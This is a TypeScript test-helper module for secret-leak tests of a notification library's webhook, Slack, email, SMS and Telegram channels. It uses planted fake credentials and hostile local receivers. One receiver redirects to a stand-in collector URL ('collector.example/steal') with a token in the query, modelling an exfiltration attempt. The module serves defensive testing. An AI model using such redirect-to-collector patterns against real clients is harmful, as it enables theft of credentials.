/**
 * What the secret-leak tests share: the planted secrets, the hostile local
 * receivers they are sent to (echoing the whole request back, redirecting,
 * never answering, refusing the connection), the channels configured with
 * them, and the scan that fails on any 10-character piece of a secret.
 *
 * @module
 */
import { after, before } from "node:test";
import assert from "node:assert/strict";
import postgres from "postgres";
import { PostgresStore } from "../../store.ts";
import type { Channel } from "../../channels/channel.ts";
import { webhookChannel } from "../../channels/webhook.ts";
import { slackChannel } from "../../channels/slack.ts";
import { emailChannel } from "../../channels/email.ts";
import { smsChannel } from "../../channels/sms.ts";
import { telegramChannel } from "../../channels/telegram.ts";
import { DATABASE_URL, uniqueSchema } from "../_helpers/pg.ts";
import { closedPort, startServer, type TestServer } from "../_helpers/http_server.ts";
import { echoServer, leakOf } from "../_helpers/hostile_http.ts";
import { trackClose, trackEnd } from "../_helpers/leaks.ts";

// Distinctive planted secrets; a leak of any 10-character piece of one fails the test.
export const SLACK_TEAM = "T0PLANTED1";
export const SLACK_HOOK = "B0PLANTED2";
export const SLACK_TOKEN = "SlackPathTok3nQ9zXw";
export const QUERY_TOKEN = "QryTok3nHz81kLmNp";
export const WHSEC = `whsec_${btoa("PlantedSigningSecret1234")}`;
export const EMAIL_KEY = "re_PlantedEmailKey7Yt2";
export const TWILIO_SID = `AC${"f".repeat(32)}`;
export const TWILIO_TOKEN = "PlantedTwilioAuthTok9";
export const BOT_TOKEN = "987654:PlantedTelegramBotTok3n_x";
export const DB_PASSWORD = "PlantedDbPassw0rdK4";

const SECRETS: Readonly<Record<string, string>> = {
  "Slack team segment": SLACK_TEAM,
  "Slack hook segment": SLACK_HOOK,
  "Slack path token": SLACK_TOKEN,
  "webhook query token": QUERY_TOKEN,
  "whsec_ signing secret": WHSEC,
  "signing secret key": WHSEC.slice("whsec_".length),
  "email API key": EMAIL_KEY,
  "Twilio auth token": TWILIO_TOKEN,
  "Twilio Basic credential": btoa(`${TWILIO_SID}:${TWILIO_TOKEN}`),
  "Telegram bot token": BOT_TOKEN,
  "Telegram bot secret": BOT_TOKEN.split(":")[1]!,
  "DATABASE_URL password": DB_PASSWORD,
};

/** A Slack webhook path made of planted secrets. */
export const SLACK_PATH = `/services/${SLACK_TEAM}/${SLACK_HOOK}/${SLACK_TOKEN}`;

/** The test database's URL with a planted password (127.0.0.1 trusts, so any password connects). */
export const DB_URL = (() => {
  const u = new URL(DATABASE_URL);
  u.password = DB_PASSWORD;
  return u.href;
})();

/** Things Herald produced, with where each came from. */
export type Corpus = { where: string; text: string }[];

/** Adds `text` (JSON for anything but a string) to `corpus`. */
export function collect(corpus: Corpus, where: string, text: unknown): void {
  corpus.push({ where, text: typeof text === "string" ? text : JSON.stringify(text) });
}

/** An error's message, name, stack and causes, all of it. */
export function errorText(err: unknown): string {
  const parts: string[] = [];
  let current: unknown = err;
  for (let i = 0; i < 5 && current !== undefined && current !== null; i++) {
    if (current instanceof Error) {
      parts.push(String(current), current.stack ?? "", JSON.stringify(current));
      current = current.cause;
    } else {
      parts.push(String(current));
      break;
    }
  }
  return parts.join("\n");
}

/** Fails naming every planted secret (or piece of one) found in `items`. */
export function assertNoLeaks(items: Corpus): void {
  const leaks: string[] = [];
  for (const { where, text } of items) {
    for (const [name, secret] of Object.entries(SECRETS)) {
      const piece = leakOf(text, secret);
      if (piece !== undefined) leaks.push(`${name} (${piece}) in ${where}: ${text.slice(0, 400)}`);
    }
  }
  assert.deepEqual(leaks, [], leaks.join("\n\n"));
}

/** Short: one receiver never answers. The others answer in a few milliseconds. */
const QUICK = { timeoutMs: 400 };
/** The URL channels' options: `QUICK`, and the receivers' loopback address allowed. */
export const LOCAL = { ...QUICK, allowHosts: ["127.0.0.1"] };

/** Every channel, configured with the planted secrets; the providers' base URL is `base`. */
export function channelsFor(base: string): Record<string, Channel> {
  const email = (provider: "resend" | "postmark" | "sendgrid") =>
    emailChannel({ ...QUICK, provider, apiKey: EMAIL_KEY, from: "a@example.com", baseUrl: base });
  return {
    webhook: webhookChannel({ ...LOCAL, secret: WHSEC }),
    slack: slackChannel(LOCAL),
    email: email("resend"),
    postmark: email("postmark"),
    sendgrid: email("sendgrid"),
    sms: smsChannel({
      ...QUICK,
      accountSid: TWILIO_SID,
      authToken: TWILIO_TOKEN,
      from: "+15005550006",
      baseUrl: base,
    }),
    telegram: telegramChannel({ ...QUICK, botToken: BOT_TOKEN, apiUrl: base }),
  };
}

/** The hostile receivers, a store on a fresh schema (password planted) and an admin handle. */
export interface Peers {
  readonly schema: string;
  readonly admin: postgres.Sql;
  readonly store: PostgresStore;
  /** Echo the request back under 400, 503, and 400 as Telegram-shaped JSON. */
  readonly bad400: TestServer;
  readonly bad503: TestServer;
  readonly tg400: TestServer;
  /** Redirects to a collector, a token in the query. */
  readonly redirect: TestServer;
  /** Never answers. */
  readonly hang: TestServer;
  /** A port that refuses connections. */
  readonly closed: number;
}

/** Registers hooks giving the enclosing `describe` the {@link Peers}; call the result in tests. */
export function usePeers(): () => Peers {
  let peers: Peers | undefined;
  const schema = uniqueSchema("herald_sec");
  before(async () => {
    const admin = trackEnd(
      "the admin handle",
      postgres(DATABASE_URL, { max: 2, onnotice: () => {} }),
    );
    const store = trackClose("the store", new PostgresStore({ url: DB_URL, schema, max: 4 }));
    await store.migrate();
    const server = (s: TestServer) => trackClose("a receiver", s);
    const [bad400, bad503, tg400] = (await Promise.all([
      echoServer({ status: 400 }),
      echoServer({ status: 503 }),
      echoServer({ status: 400, json: true }),
    ])).map(server) as [TestServer, TestServer, TestServer];
    const redirect = server(
      await startServer((req, res) =>
        void res.writeHead(302, {
          location: `https://collector.example/steal?token=${QUERY_TOKEN}&from=${
            encodeURIComponent(req.path)
          }`,
        }).end()
      ),
    );
    const hang = server(await startServer(() => {/* never answers */}));
    peers = {
      schema,
      admin,
      store,
      bad400,
      bad503,
      tg400,
      redirect,
      hang,
      closed: await closedPort(),
    };
  });
  after(async () => {
    if (!peers) return;
    const { bad400, bad503, tg400, redirect, hang, store, admin } = peers;
    await Promise.all([bad400, bad503, tg400, redirect, hang].map((s) => s.close()));
    await store.close();
    await admin.unsafe(`DROP SCHEMA IF EXISTS "${schema}" CASCADE`);
    await admin.end({ timeout: 5 });
  });
  return () => peers!;
}
